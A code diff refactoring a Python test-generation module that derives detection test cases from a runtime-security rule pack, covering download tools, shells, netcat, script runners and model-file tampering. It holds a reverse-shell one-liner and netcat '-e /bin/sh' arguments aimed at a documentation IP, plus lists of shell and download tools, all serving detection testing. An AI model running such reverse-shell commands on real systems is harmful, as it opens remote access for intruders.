@@ -13,11 +13,11 @@ files...) only quiet a rule, and a tuning that drops one of their items makes mo
 
 from __future__ import annotations
 
-import re
-from collections.abc import Callable, Mapping, Sequence
+from collections.abc import Sequence
 from dataclasses import dataclass
 from pathlib import Path
 
+from responder.rulespack.condition import parse
 from responder.rulespack.derived import DerivedCase
 from responder.rulespack.evasions_common import (
     CREDENTIALS,
@@ -36,6 +36,9 @@ from responder.rulespack.evasions_common import (
     opens_instead,
     shows,
 )
+from responder.rulespack.evasions_files import RECORDED_MODEL_LOAD, RECORDED_MODEL_WRITE, _rename, _token
+from responder.rulespack.evasions_keywords import keywords
+from responder.rulespack.expand import RuleSet, load_paths
 from responder.rulespack.recorded import (
     CAT_H1,
     CURL_F2,
@@ -43,72 +46,65 @@ from responder.rulespack.recorded import (
     PYTHON_B1,
     PYTHON_C1,
     PYTHON_D1,
-    SERVICE_ACCOUNT_TOKEN,
     SH_A1,
-    CaptureLibrary,
-    Replacements,
-    rename,
+    Recorded,
 )
-from responder.rulespack.rulesfile import ListItem, MacroItem, read_rules_file
 
-RECORDED_MODEL_LOAD = "/tmp/evil/model.pt"  # c1 reads it
-RECORDED_MODEL_WRITE = "/models/resnet/model.pt"  # d1 appends to it
 OUTSIDE_TOOL = "/opt/tools"  # a directory no list names: the item alone must match
 ONE_LINER = 's=socket();s.connect(("203.0.113.9",4444));dup2(s,0);exec("/bin/sh")'
-_ENDSWITH = re.compile(r"fd\.name endswith (\S+?)\)?(?:\s|$)")
 
 
 @dataclass(frozen=True)
 class PackLists:
-    """The shipped pack's lists and macro conditions, by name (the first definition of each)."""
+    """The shipped pack as loaded: its lists compiled (the pack's own appends applied, the lists they
+    name spliced in), and its macros' conditions."""
 
-    lists: Mapping[str, tuple[str, ...]]
-    macros: Mapping[str, str]
+    ruleset: RuleSet
 
     def items(self, name: str) -> tuple[str, ...]:
-        if name not in self.lists:
+        if name not in self.ruleset.list_items:
             raise ValueError(f"the pack defines no list {name}: the list cases were written for it")
-        return self.lists[name]
+        return tuple(self.ruleset.list_items[name])
 
     def endswith_paths(self, macro: str) -> tuple[str, ...]:
         """The `fd.name endswith PATH` operands of a macro (a list spelled out as a condition)."""
-        if macro not in self.macros:
+        if macro not in self.ruleset.macros:
             raise ValueError(f"the pack defines no macro {macro}: the list cases were written for it")
-        return tuple(_ENDSWITH.findall(self.macros[macro]))
+        operands = keywords(parse(self.ruleset.macros[macro].condition), self.ruleset.list_items)
+        return tuple(k.value for k in operands if k.field == "fd.name" and k.op == "endswith")
 
 
 def read_pack_lists(pack: Path) -> PackLists:
-    rules_file = read_rules_file(str(pack))
-    lists: dict[str, tuple[str, ...]] = {}
-    macros: dict[str, str] = {}
-    for item in rules_file.items:
-        if isinstance(item, ListItem):
-            lists.setdefault(item.name, item.items)
-        elif isinstance(item, MacroItem):
-            macros.setdefault(item.name, item.condition)
-    return PackLists(lists, macros)
+    return PackLists(load_paths([str(pack)]))
 
 
 def _group(name: str, what: str) -> str:
     return f"{name}: each item {what}"
 
 
+# The recorded program each rule's list cases start, and that rule.
+DOWNLOADS = (CURL_F2, DOWNLOAD)
+SHELLS = (SH_A1, SHELL)
+REVERSE_SHELLS = (PYTHON_B1, REVERSE_SHELL)
+DRIFTS = (CURL_F2, DRIFT)
+
+
 def _exec_case(
-    group: str, item: str, recorded_rule: tuple[str, str], path: str, argv: list[str], name: str
+    group: str, item: str, recorded_rule: tuple[Recorded, str], path: str, argv: list[str], name: str
 ) -> DerivedCase:
-    recorded = {"sh": SH_A1, "curl": CURL_F2, "python": PYTHON_B1}[recorded_rule[0]]
+    recorded, rule = recorded_rule
     return case(
         group,
         item,
         recorded,
         exec_as(recorded, path=path, argv=argv, name=name),
-        fires(recorded_rule[1], True, EXEC, count=1),
+        fires(rule, True, EXEC, count=1),
         witness=(shows(EXEC, {"proc.name": name, "proc.exepath": path}),),
     )
 
 
 def _by_name(
-    lists: PackLists, name: str, recorded_rule: tuple[str, str], what: str, args: Sequence[str]
+    lists: PackLists, name: str, recorded_rule: tuple[Recorded, str], what: str, args: Sequence[str]
 ) -> list[DerivedCase]:
     """A program of each item's name, from a directory no list names."""
     group = _group(name, what)
@@ -119,20 +115,25 @@ def _by_name(
 
 
 def _by_path(
-    lists: PackLists, name: str, recorded_rule: tuple[str, str], what: str, args: Sequence[str]
+    lists: PackLists, name: str, recorded_rule: tuple[Recorded, str], what: str, args: Sequence[str]
 ) -> list[DerivedCase]:
     """A program at each item's path, under a name no list names."""
     group = _group(name, what)
     return [_exec_case(group, item, recorded_rule, item, ["x", *args], "x") for item in lists.items(name)]
 
 
-def _opens(group: str, rule: str, item: str, recorded: str, path: str) -> DerivedCase:
-    source = {"c1": (PYTHON_C1, RECORDED_MODEL_LOAD), "d1": (PYTHON_D1, RECORDED_MODEL_WRITE)}[recorded]
+# The recorded opens the file cases move: c1's model load, d1's model write.
+MODEL_LOADED = (PYTHON_C1, RECORDED_MODEL_LOAD)
+MODEL_WRITTEN = (PYTHON_D1, RECORDED_MODEL_WRITE)
+
+
+def _opens(group: str, rule: str, item: str, recorded_open: tuple[Recorded, str], path: str) -> DerivedCase:
+    recorded, recorded_path = recorded_open
     return case(
         group,
         item,
-        source[0],
-        opens_instead(source[0], source[1], path),
+        recorded,
+        opens_instead(recorded, recorded_path, path),
         fires(rule, True, opened(path)),
         witness=(shows(opened(path), count=None),),
     )
@@ -143,29 +144,22 @@ def _token_case(group: str, item: str, path: str) -> DerivedCase:
         group,
         item,
         CAT_H1,
-        opens_instead(CAT_H1, SERVICE_ACCOUNT_TOKEN, path),
+        _token(path),
         fires(CREDENTIALS, True, opened(path), count=1),
     )
-
-
-def _renamed_away(path: str) -> Callable[[CaptureLibrary], Replacements]:
-    def derive(library: CaptureLibrary) -> Replacements:
-        return rename(library, path, f"{path}.orig")
-
-    return derive
 
 
 def _files(lists: PackLists) -> list[DerivedCase]:
     cases = []
     group = _group("serving_guard_model_extensions", "loaded from /tmp is a model load")
     for ext in lists.items("serving_guard_model_extensions"):
-        cases.append(_opens(group, MODEL_LOAD, ext, "c1", f"/tmp/evil/model{ext}"))
+        cases.append(_opens(group, MODEL_LOAD, ext, MODEL_LOADED, f"/tmp/evil/model{ext}"))
     group = _group("serving_guard_model_dirs", "written is tampering")
     for item in lists.items("serving_guard_model_dirs"):
-        cases.append(_opens(group, TAMPER, item, "d1", f"{item}/m/config.pbtxt"))
+        cases.append(_opens(group, TAMPER, item, MODEL_WRITTEN, f"{item}/m/config.pbtxt"))
     group = _group("serving_guard_model_dirs", "written through /proc/1/root is tampering")
     for item in lists.items("serving_guard_model_dirs"):
-        cases.append(_opens(group, TAMPER, item, "d1", f"/proc/1/root{item}/m/config.pbtxt"))
+        cases.append(_opens(group, TAMPER, item, MODEL_WRITTEN, f"/proc/1/root{item}/m/config.pbtxt"))
     group = _group("serving_guard_model_dir_ancestors", "renamed away is tampering")
     for item in lists.items("serving_guard_model_dir_ancestors"):
         cases.append(
@@ -173,7 +167,7 @@ def _files(lists: PackLists) -> list[DerivedCase]:
                 group,
                 item,
                 MV_D2,
-                _renamed_away(item),
+                _rename(item, f"{item}.orig"),
                 fires(TAMPER, True, RENAMED),
                 witness=(shows(RENAMED),),
             )
@@ -192,51 +186,47 @@ def _files(lists: PackLists) -> list[DerivedCase]:
     return cases
 
 
+def _exec_dirs(lists: PackLists) -> list[DerivedCase]:
+    group = _group("serving_guard_writable_exec_dirs", "holding the program run is drift")
+    return [
+        _exec_case(group, item, DRIFTS, f"{item}/x", ["x"], "x")
+        for item in lists.items("serving_guard_writable_exec_dirs")
+    ]
+
+
 def list_cases(pack: Path) -> list[DerivedCase]:
     """The list-completeness cases of the pack at ``pack`` (the shipped one: its items are the ones
     no tuning may lose)."""
     lists = read_pack_lists(pack)
-    download = ("curl", DOWNLOAD)
-    shell = ("sh", SHELL)
-    reverse = ("python", REVERSE_SHELL)
-    drift = ("curl", DRIFT)
     url = ["evil.example/x"]
     cases = [
-        *_by_name(lists, "serving_guard_download_tools", download, "by name is a download", url),
-        *_by_path(lists, "serving_guard_download_tool_paths", download, "by path is a download", url),
-        *_by_name(lists, "serving_guard_shell_binaries", shell, "by name is a shell", ["-c", "id"]),
-        *_by_path(lists, "serving_guard_shell_paths", shell, "by path is a shell", ["-c", "id"]),
+        *_by_name(lists, "serving_guard_download_tools", DOWNLOADS, "by name is a download", url),
+        *_by_path(lists, "serving_guard_download_tool_paths", DOWNLOADS, "by path is a download", url),
+        *_by_name(lists, "serving_guard_shell_binaries", SHELLS, "by name is a shell", ["-c", "id"]),
+        *_by_path(lists, "serving_guard_shell_paths", SHELLS, "by path is a shell", ["-c", "id"]),
         *_by_name(
             lists,
             "serving_guard_script_interpreters",
-            reverse,
+            REVERSE_SHELLS,
             "running a reverse-shell one-liner is a reverse shell",
             ["-e", ONE_LINER],
         ),
         *_by_name(
             lists,
             "serving_guard_netcat_binaries",
-            reverse,
+            REVERSE_SHELLS,
             "with -e is a reverse shell",
             ["-e", "/bin/sh", "203.0.113.9", "4444"],
         ),
         *_by_name(
-            lists, "serving_guard_script_runners", drift, "running /tmp/x.script is drift", ["/tmp/x.script"]
+            lists, "serving_guard_script_runners", DRIFTS, "running /tmp/x.script is drift", ["/tmp/x.script"]
         ),
         *_by_path(
             lists,
             "serving_guard_script_runner_paths",
-            drift,
+            DRIFTS,
             "running /tmp/x.script is drift",
             ["/tmp/x.script"],
         ),
     ]
     return [*cases, *_exec_dirs(lists), *_files(lists)]
-
-
-def _exec_dirs(lists: PackLists) -> list[DerivedCase]:
-    group = _group("serving_guard_writable_exec_dirs", "holding the program run is drift")
-    return [
-        _exec_case(group, item, ("curl", DRIFT), f"{item}/x", ["x"], "x")
-        for item in lists.items("serving_guard_writable_exec_dirs")
-    ]
